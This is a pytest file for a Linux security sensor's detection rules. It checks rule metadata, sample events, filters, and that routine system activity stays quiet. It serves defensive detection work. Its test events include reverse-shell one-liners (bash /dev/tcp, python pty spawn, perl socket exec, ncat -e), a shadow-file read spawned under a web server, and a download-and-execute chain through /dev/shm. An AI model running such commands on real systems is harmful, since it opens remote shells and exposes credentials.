"""The rules that come with the sensor: sound, documented, and each proved by sample events."""

from __future__ import annotations

import re
import uuid
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from sensor import config, schema
from sensor.rules import condition, content, files, samples, sigma
from sensor.rules.matcher import Matcher
from sensor.rules.model import Rule
from sensor.rules.yamlsafe import documents
from sensor.watch import WatchList
from tests.conftest import ROOT
from tools import gen_rules_doc

RULES = ROOT / "rules"
LEVELS = ("low", "medium", "high", "critical")
TACTICS = {
    "reconnaissance", "resource-development", "initial-access", "execution", "persistence", "privilege-escalation",
    "defense-evasion", "credential-access", "discovery", "lateral-movement", "collection", "command-and-control",
    "exfiltration", "impact",
}
FILES = sorted(path for path in RULES.rglob("*.yml") if not files.is_samples(str(path)))
#: Files of a correlation, which comes first, and of rules that only serve it.
CORRELATED = [path for path in FILES if "\n---\n" in path.read_text("utf-8")]
SINGLE = [path for path in FILES if path not in CORRELATED]
FILTERS = re.compile(r" and not (1 of filter_\*|filter_\w+)$", re.MULTILINE)
each_correlation = pytest.mark.parametrize("path", CORRELATED, ids=lambda path: path.stem)
each_file = pytest.mark.parametrize("path", SINGLE, ids=lambda path: f"{path.parent.name}/{path.stem}")


@cache
def loaded() -> content.RuleSet:
    return content.load(content.discover([str(RULES)]))


@cache
def matcher() -> Matcher:
    return Matcher([rule for rule in loaded().rules if not rule.silent])


def rule_of(path: Path) -> Rule:
    (rule,) = (rule for rule in loaded().rules if rule.path == str(path))
    return rule


def document_of(path: Path) -> dict[str, Any]:
    (document,) = documents(path.read_text("utf-8"))
    return document


def alerts(**event: Any) -> set[str]:
    """Titles of the rules that match a sample; an underscore pair in a name stands for a dot."""
    sample = {name.replace("__", "."): value for name, value in event.items()}
    return {rule.name for rule in matcher().match(samples.expand(sample))}


def test_all_default_rules_load():
    """At least forty, one a file, none refused and none for a log source that the sensor lacks."""
    rules = loaded()
    assert rules.refused == ()
    assert rules.unsupported == ()
    assert sum(not rule.silent for rule in rules.rules) == len(SINGLE) >= 40
    assert len(rules.correlations) == len(CORRELATED) >= 5


def test_every_sample_is_treated_as_it_says():
    """Positive samples match their rule, negative ones don't, and no rule lacks either kind."""
    results = samples.run(loaded().rules, loaded().correlations)
    assert results.failures == ()
    assert results.missing == ()
    assert results.refused == ()
    assert results.passed >= 3 * len(FILES)


def test_no_samples_lie_beside_no_rule():
    """A sample file whose rule was renamed would never run."""
    beside = {samples.samples_path(str(path)) for path in FILES}
    assert {str(path) for path in RULES.rglob("*.samples.yml")} == beside


def test_ids_and_titles_are_unique():
    """An id is for good; a title is what people talk about."""
    ids = [rule.id for rule in loaded().every]
    assert len(set(ids)) == len(ids)
    assert {uuid.UUID(each).version for each in ids} == {4}
    titles = [rule.name.casefold() for rule in loaded().every]
    assert len(set(titles)) == len(titles)


@each_file
def test_rule_says_what_a_reader_needs(path: Path):
    """Title, reason, author, date, known noise, level, tactic and technique."""
    document, rule = document_of(path), rule_of(path)
    assert re.fullmatch(r"[a-z0-9_]+", path.stem)
    assert document["author"] == "sensor project"
    assert document["status"] == "test"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", str(document["date"]))
    assert document["logsource"]["product"] == "linux"
    assert rule.level in LEVELS
    assert len(rule.description.split()) >= 15
    assert rule.falsepositives
    assert not {"unknown", "none"} & {each.casefold().rstrip(".") for each in rule.falsepositives}
    assert rule.techniques
    tactics = {tag.removeprefix("attack.") for tag in rule.tags} - {each.lower() for each in rule.techniques}
    assert tactics
    assert tactics <= TACTICS
    assert set(rule.references) == {
        f"https://attack.mitre.org/techniques/{each.replace('.', '/')}/" for each in rule.techniques}


@each_correlation
def test_correlation_says_what_a_reader_needs(path: Path):
    """As other rules; the rules below it are named, silent and in the same file."""
    first, *others = documents(path.read_text("utf-8"))
    (rule,) = (rule for rule in loaded().correlations if rule.path == str(path))
    below = {other.id for other in loaded().rules if other.path == str(path) and other.silent}
    assert set(rule.rules) == below
    assert len(below) == len(others)
    assert all(other["name"] in path.read_text("utf-8").split("---")[0] for other in others)
    assert first["author"] == "sensor project"
    assert rule.level in LEVELS
    assert len(rule.description.split()) >= 15
    assert rule.falsepositives
    assert set(rule.references) == {
        f"https://attack.mitre.org/techniques/{each.replace('.', '/')}/" for each in rule.techniques}
    assert {tag.removeprefix("attack.") for tag in rule.tags} - {each.lower() for each in rule.techniques} <= TACTICS


@each_correlation
def test_correlation_has_near_misses(path: Path):
    """A negative sequence whose every event matches a rule below: only the correlation says no."""
    found = samples.read(samples.samples_path(str(path)))
    negative = [sample for sample in found if not sample.positive]
    assert len(negative) >= 2
    below = Matcher([rule for rule in loaded().rules if rule.path == str(path)])
    assert any(all(below.match(document) for document in sample.documents) for sample in negative)


@each_file
def test_rule_has_one_positive_and_two_negative_samples(path: Path):
    """And one of the negative ones is of an event that the rule looks at: it is a near miss."""
    found = samples.read(samples.samples_path(str(path)))
    assert any(sample.positive for sample in found)
    negative = [sample for sample in found if not sample.positive]
    assert len(negative) >= 2
    assert any(sample.document["event"]["action"] in rule_of(path).events for sample in negative)


@each_file
def test_rule_asks_only_for_fields_that_its_events_have(path: Path):
    """A field that no event of the category carries would silently never match."""
    rule = rule_of(path)
    events = [event for event in schema.EVENTS if event.action in rule.events]
    assert events
    for key in condition.fields(rule.condition):
        assert any(_carries(event, key) for event in events), key


def _carries(event: schema.Event, key: str) -> bool:
    # The acting process is in every document, with all that is known since its exec.
    rows = [*schema.HEADER, *event.fields, *schema.BY_NAME["process_exec"].fields]
    own = {row.ecs for row in rows if row.ecs and (row in (*schema.HEADER, *event.fields)
                                                   or row.ecs.startswith("process."))}
    own |= {name for name, events, _ in schema.DERIVED if events in ("*", event.name, "process_exec")}
    if event.name.startswith("network_"):
        own.add("network.initiated")
    if any(name.endswith("*") and key.startswith(name[:-1]) for name in own):
        return True
    return key in own


@each_file
def test_filters_are_proved_by_a_negative_sample(path: Path):
    """Without its filters, a rule matches one of its negative samples: they are near misses indeed."""
    text = path.read_text("utf-8")
    stripped, removed = FILTERS.subn("", text)
    if not removed:
        assert "filter_" not in text
        return
    (document,) = documents(stripped)
    rule = sigma.read(document, str(path))
    assert isinstance(rule, Rule)
    bare = Matcher([rule])
    found = samples.read(samples.samples_path(str(path)))
    assert any(bare.match(sample.document) for sample in found if not sample.positive)


def test_reads_that_rules_wait_for_are_watched_by_default():
    """Each file_access rule has a positive sample that the default watch list lets through."""
    watched = WatchList(config.WATCH_DEFAULT)
    blind = []
    for rule in loaded().rules:
        if rule.categories == ("file_access",):
            found = samples.read(samples.samples_path(rule.path))
            places = [sample.document["file"]["path"] for sample in found if sample.positive]
            if not any(watched.matches(place) for place in places):
                blind.append((rule.name, places))
    assert blind == []


# What must never be missed --------------------------------------------------------------------------


def test_shadow_read_below_a_web_server_is_told_three_times():
    """The shell, the read, and that the reader descends from the server."""
    assert "Web server started a shell" in alerts(
        event="process_exec", Image="/usr/bin/sh", CommandLine="sh -c cat /etc/shadow", ParentImage="/tmp/w/nginx")
    read = alerts(event="file_open", Image="/usr/bin/cat", CommandLine="cat /etc/shadow",
                  TargetFilename="/etc/shadow", ParentImage="/usr/bin/sh",
                  process__ancestors=["/usr/bin/sh", "/tmp/w/nginx", "/usr/lib/systemd/systemd"])
    assert {"Password hashes opened by an unusual program", "Web server's descendant opens a secret"} <= read


@pytest.mark.parametrize("server", ["nginx", "apache2", "httpd", "lighttpd", "php-fpm", "php-fpm8.2", "caddy"])
@pytest.mark.parametrize("shell", ["sh", "bash", "dash", "zsh"])
def test_shell_below_any_web_server_alerts(server: str, shell: str):
    """Whatever directory server and shell lie in."""
    assert "Web server started a shell" in alerts(
        event="process_exec", Image=f"/bin/{shell}", CommandLine=f"{shell} -c id", ParentImage=f"/srv/{server}")


@pytest.mark.parametrize(("event", "rule"), [
    ({"event": "process_exec", "Image": "/usr/bin/curl", "CommandLine": "curl -o /dev/shm/x http://127.0.0.1/x"},
     "Download command names shared memory or a hidden temporary file"),
    ({"event": "file_open", "Image": "/usr/bin/curl", "TargetFilename": "/dev/shm/x",
      "sensor__flags": ["created", "write"]}, "Download tool wrote into shared memory"),
    ({"event": "file_chmod", "Image": "/usr/bin/chmod", "TargetFilename": "/dev/shm/x", "file__mode": "0755"},
     "File in shared memory made executable"),
    ({"event": "process_exec", "Image": "/dev/shm/x", "CommandLine": "./x"},
     "Program started from shared memory"),
    ({"event": "process_exec", "Image": "/bin/sh", "CommandLine": "sh /dev/shm/x"},
     "Interpreter runs a script in shared memory"),
], ids=lambda value: value if isinstance(value, str) else "event")
def test_each_step_of_download_and_execute_alerts(event: dict[str, Any], rule: str):
    """Fetching, storing, making executable, running."""
    assert rule in alerts(**event)


@pytest.mark.parametrize("event", [
    {"event": "file_open", "sensor__flags": ["created", "write"]},
    {"event": "file_open", "sensor__flags": ["write"]},
    {"event": "file_rename", "SourceFilename": "/tmp/x"},
    {"event": "file_link", "file__target_path": "/tmp/x"},
], ids=["created", "written", "renamed", "linked"])
def test_every_way_into_cron_d_alerts(event: dict[str, Any]):
    """A new file, a changed one, one moved there, a link."""
    assert "File written into a cron directory" in alerts(
        Image="/usr/bin/cp", TargetFilename="/etc/cron.d/x", **event)


@pytest.mark.parametrize("key", ["/root/.ssh/id_rsa", "/home/ann/.ssh/id_ed25519", "/home/ann/.ssh/id_test_1"])
def test_private_key_read_by_cat_alerts_and_by_ssh_does_not(key: str):
    """The reader decides."""
    title = "Private ssh key opened by an unusual program"
    assert title in alerts(event="file_open", Image="/bin/cat", TargetFilename=key)
    assert alerts(event="file_open", Image="/usr/bin/ssh", TargetFilename=key) == set()


@pytest.mark.parametrize(("image", "line", "rule"), [
    ("/bin/bash", "bash -c exec 3<>/dev/tcp/127.0.0.1/4444", "Shell made a network connection itself"),
    ("/usr/bin/dash", "sh", "Shell made a network connection itself"),
    ("/usr/bin/python3.11", "python3 -c import socket,pty;s=socket.socket();pty.spawn('sh')",
     "Inline script with a shell in it made a network connection"),
    ("/usr/bin/perl", 'perl -MSocket -e socket(S);exec("/bin/sh -i")',
     "Inline script with a shell in it made a network connection"),
    ("/usr/bin/ncat", "ncat -e /bin/sh 127.0.0.1 4444", "Network relay tool with a shell made a connection"),
])
@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "192.0.2.7"])
def test_reverse_shell_connect_alerts_also_on_loopback(image: str, line: str, rule: str, address: str):
    """Tunnels end on the loopback."""
    assert rule in alerts(event="network_connect", Image=image, CommandLine=line, DestinationIp=address,
                          DestinationPort=4444, Protocol="tcp")


# What must stay quiet -------------------------------------------------------------------------------


_APT = ["/usr/bin/dpkg", "/usr/bin/apt-get", "/usr/bin/bash", "/usr/sbin/sshd"]
QUIET: dict[str, list[dict[str, Any]]] = {
    "a package is installed": [
        {"event": "file_open", "Image": "/usr/bin/dpkg", "TargetFilename": "/etc/cron.d/x.dpkg-new",
         "sensor.flags": ["created", "write"]},
        {"event": "file_rename", "Image": "/usr/bin/dpkg", "TargetFilename": "/usr/bin/x",
         "SourceFilename": "/usr/bin/x.dpkg-new"},
        {"event": "file_chmod", "Image": "/usr/bin/dpkg", "TargetFilename": "/usr/bin/su.dpkg-new",
         "file.mode": "4755"},
        {"event": "process_exec", "Image": "/bin/sh", "process.script": "/var/lib/dpkg/info/x.postinst",
         "process.executable_resolved": "/usr/bin/dash", "ParentImage": "/usr/bin/dpkg",
         "CommandLine": "/bin/sh /var/lib/dpkg/info/x.postinst configure", "process.ancestors": _APT},
        {"event": "file_link", "Image": "/usr/bin/systemctl", "file.target_path": "/lib/systemd/system/x.service",
         "TargetFilename": "/etc/systemd/system/multi-user.target.wants/x.service"},
        {"event": "file_rename", "Image": "/usr/sbin/useradd", "TargetFilename": "/etc/shadow",
         "SourceFilename": "/etc/shadow+", "process.ancestors": ["/usr/bin/perl", *_APT]},
        {"event": "file_open", "Image": "/usr/sbin/ldconfig.real", "TargetFilename": "/etc/ld.so.cache~",
         "sensor.flags": ["created", "write"], "process.ancestors": _APT},
        {"event": "process_exec", "Image": "/usr/bin/systemctl", "CommandLine": "systemctl stop rsyslog.service",
         "process.ancestors": ["/bin/sh", *_APT]},
    ],
    "cron starts a job": [
        {"event": "file_open", "Image": "/usr/sbin/cron", "TargetFilename": "/etc/shadow"},
        {"event": "credentials_change", "Image": "/usr/sbin/cron", "sensor.operation": 105,
         "user.effective.id": 0, "process.real_user.id": 0},
        {"event": "process_exec", "Image": "/bin/sh", "ParentImage": "/usr/sbin/cron",
         "CommandLine": "/bin/sh -c test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"},
        {"event": "file_unlink", "Image": "/usr/sbin/logrotate", "TargetFilename": "/var/log/syslog.7.gz"},
        {"event": "file_rename", "Image": "/usr/sbin/logrotate", "TargetFilename": "/var/log/auth.log.1",
         "SourceFilename": "/var/log/auth.log"},
    ],
    "systemd starts the machine": [
        {"event": "module_load", "Image": "/usr/lib/systemd/systemd-udevd", "sensor.operation": 313,
         "ImageLoaded": "/usr/lib/modules/6.1.0-25-amd64/kernel/sound/snd.ko", "event.result": 0},
        {"event": "bpf_load", "Image": "/usr/lib/systemd/systemd", "bpf.program.type": 15, "event.result": 9},
        {"event": "bpf_load", "Image": "/usr/lib/systemd/systemd", "bpf.program.type": 29, "event.result": 9},
        {"event": "mount", "Image": "/usr/bin/mount", "sensor.operation": 165, "mount.source": "/dev/sda2",
         "TargetFilename": "/boot", "mount.type": "ext4", "event.result": 0},
        {"event": "memfd_create", "Image": "/usr/lib/systemd/systemd", "file.name": "data-fd"},
        {"event": "file_open", "Image": "/usr/lib/systemd/systemd-sysctl", "sensor.flags": ["write"],
         "TargetFilename": "/proc/sys/kernel/core_pattern"},
        {"event": "namespace_change", "Image": "/usr/lib/systemd/systemd-executor", "sensor.operation": 272,
         "process.namespace.flags": 1342177280, "UserId": "0"},
    ],
    "somebody logs in and works": [
        {"event": "file_open", "Image": "/usr/sbin/sshd", "TargetFilename": "/etc/ssh/ssh_host_ed25519_key"},
        {"event": "process_exec", "Image": "/usr/bin/bash", "CommandLine": "-bash", "ParentImage": "/usr/sbin/sshd",
         "process.executable_mode": "100755", "process.executable_uid": 0, "process.args_count": 1},
        {"event": "process_exec", "Image": "/usr/bin/sudo", "CommandLine": "sudo apt-get update",
         "process.executable_resolved": "/usr/bin/sudo", "process.executable_mode": "104755",
         "process.executable_uid": 0},
        {"event": "file_open", "Image": "/usr/bin/sudo", "TargetFilename": "/etc/sudoers"},
        {"event": "file_open", "Image": "/usr/bin/bash", "TargetFilename": "/home/ann/.bash_history",
         "sensor.flags": ["write"]},
        {"event": "network_connect", "Image": "/usr/bin/curl", "DestinationIp": "192.0.2.80",
         "DestinationPort": 443, "Protocol": "tcp"},
        {"event": "dns_query", "Image": "/usr/bin/curl", "QueryName": "deb.debian.org", "QueryType": "A"},
        {"event": "process_exec", "Image": "/usr/bin/curl", "CommandLine": "curl -O https://example.org/a.tar.gz"},
        {"event": "process_exec", "Image": "/usr/bin/grep", "CommandLine": "grep -rn TODO src"},
        {"event": "process_exec", "Image": "/usr/bin/[", "CommandLine": "[ -f /etc/hosts ]"},
    ],
    "a program is built": [
        {"event": "process_exec", "Image": "/usr/bin/gcc", "CommandLine": "gcc -O2 -c a.c -o /tmp/cc1.o",
         "process.executable_resolved": "/usr/bin/x86_64-linux-gnu-gcc-12", "ParentImage": "/usr/bin/make"},
        {"event": "process_exec", "Image": "/tmp/b/conftest", "process.executable_resolved": "/tmp/b/conftest",
         "CommandLine": "./conftest", "ParentImage": "/bin/sh"},
        {"event": "file_open", "Image": "/usr/bin/ld", "TargetFilename": "/home/ann/b/a.out",
         "sensor.flags": ["created", "write"]},
        {"event": "file_chmod", "Image": "/usr/bin/ld", "TargetFilename": "/home/ann/b/a.out",
         "file.mode": "0755"},
        {"event": "file_open", "Image": "/usr/bin/install", "TargetFilename": "/usr/local/bin/tool",
         "sensor.flags": ["created", "write"]},
        {"event": "network_connect", "Image": "/tmp/go-build7/b001/x.test", "DestinationIp": "127.0.0.1",
         "DestinationPort": 40123, "Protocol": "tcp"},
    ],
    "a container is started": [
        {"event": "process_exec", "Image": "/proc/self/exe", "CommandLine": "runc init",
         "process.executable_resolved": "/memfd:runc_cloned:/proc/self/exe", "sensor.flags": ["deleted", "memfd"],
         "ParentImage": "/usr/bin/containerd-shim-runc-v2", "process.executable_links": 0},
        {"event": "mount", "Image": "/proc/self/exe", "container.id": "4f1c2ab0d9e8", "sensor.operation": 165,
         "mount.source": "proc", "TargetFilename": "/proc", "mount.type": "proc", "event.result": 0},
        {"event": "process_exec", "Image": "/usr/sbin/iptables", "CommandLine": "iptables --wait -t nat -F DOCKER"},
        {"event": "process_exec", "Image": "/usr/bin/docker", "CommandLine": "docker run -d -p 80:80 nginx"},
    ],
    "a web server works": [
        {"event": "process_exec", "Image": "/usr/sbin/nginx", "CommandLine": "nginx: worker process",
         "ParentImage": "/usr/sbin/nginx"},
        {"event": "network_accept", "Image": "/usr/sbin/nginx", "SourceIp": "192.0.2.9", "SourcePort": 40000,
         "DestinationIp": "192.0.2.80", "DestinationPort": 443, "Protocol": "tcp"},
        {"event": "network_listen", "Image": "/usr/sbin/nginx", "SourceIp": "0.0.0.0", "SourcePort": 443},
        {"event": "file_open", "Image": "/usr/sbin/php-fpm8.2", "sensor.flags": ["created", "write"],
         "TargetFilename": "/var/www/site/uploads/a.jpg"},
        {"event": "memfd_create", "Image": "/usr/sbin/php-fpm8.2", "file.name": "opcache_lock"},
        {"event": "process_exec", "Image": "/usr/bin/sh", "CommandLine": "sh -c /usr/sbin/sendmail -t -i",
         "ParentImage": "/usr/sbin/php-fpm8.2", "process.ancestors": ["/usr/sbin/php-fpm8.2"]},
    ],
}


@pytest.mark.parametrize("scene", QUIET)
def test_everyday_work_raises_no_alert(scene: str):
    """Packages, cron, start of the machine, logins, builds, containers and web servers."""
    noisy = [(rule.name, event) for event in QUIET[scene] for rule in matcher().match(samples.expand(event))]
    assert noisy == []


def test_page_of_rules_is_up_to_date():
    """docs/rules.md says what rules/ says; run tools/gen_rules_doc.py where it does not."""
    text = gen_rules_doc.PAGE.read_text("utf-8")
    assert gen_rules_doc.page(text) == text
    assert all(f"../{path.relative_to(ROOT).as_posix()})" in text for path in FILES)
